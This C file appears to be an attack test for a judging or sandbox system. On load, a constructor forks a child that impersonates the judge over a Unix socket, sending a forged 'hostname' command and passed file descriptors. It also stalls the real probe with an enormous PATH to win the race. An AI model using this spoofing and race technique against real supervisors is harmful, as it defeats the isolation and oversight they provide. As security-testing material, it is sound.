/* A second probe gets a command, too: hostname(1), from the step's own process. */
#include <sched.h>
#include <sys/socket.h>
#include <sys/wait.h>

#include "../../tests/judge/attacks/liar.h"
#include "lab/uts.c"

/* Answers as the judge does. */
static void answer(int streams, const char *name)
{
	char byte, words[100] = "hostname", control[CMSG_SPACE(4 * sizeof(int))];
	struct iovec data = { &byte, 1 };
	struct msghdr message = { .msg_iov = &data,
				  .msg_iovlen = 1,
				  .msg_control = control,
				  .msg_controllen = sizeof(control) };
	int fd, fds[3] = { 0, 1, 2 };
	struct cmsghdr *header;

	recvmsg(streams, &message, 0);
	memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(fd));
	strcpy(words + sizeof("hostname"), name);
	data = (struct iovec){ words, sizeof("hostname") + strlen(name) + 1 };
	message.msg_controllen = CMSG_SPACE(sizeof(fds));
	header = CMSG_FIRSTHDR(&message);
	*header = (struct cmsghdr){ CMSG_LEN(sizeof(fds)), SOL_SOCKET, SCM_RIGHTS };
	memcpy(CMSG_DATA(header), fds, sizeof(fds));
	sendmsg(fd, &message, 0);
}

/* Executes the probe with a PATH that takes long to be searched. */
static void delay(char **command)
{
	static char path[120000];
	char *end = path;

	while (end < path + sizeof(path) - 20)
		end = stpcpy(end, "/.:");
	stpcpy(end, "/bin");
	setenv("PATH", path, 1);
	execv(command[0], command);
}

__attribute__((constructor)) static void attack(int argc, char **argv)
{
	char *name = find_name(argc, argv);
	int streams[2];

	if (!name || unshare(CLONE_NEWUTS) < 0)
		return;
	socketpair(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0, streams);
	if (fork() == 0) {
		dup2(streams[1], STDIN_FILENO);
		execv(argv[argc - 2], argv + argc - 2);
		_exit(1);
	}
	if (fork() == 0) {
		usleep(30000); /* until the command has been handed over */
		answer(streams[0], name);
		_exit(0);
	}
	delay(argv + argc - 2);
}
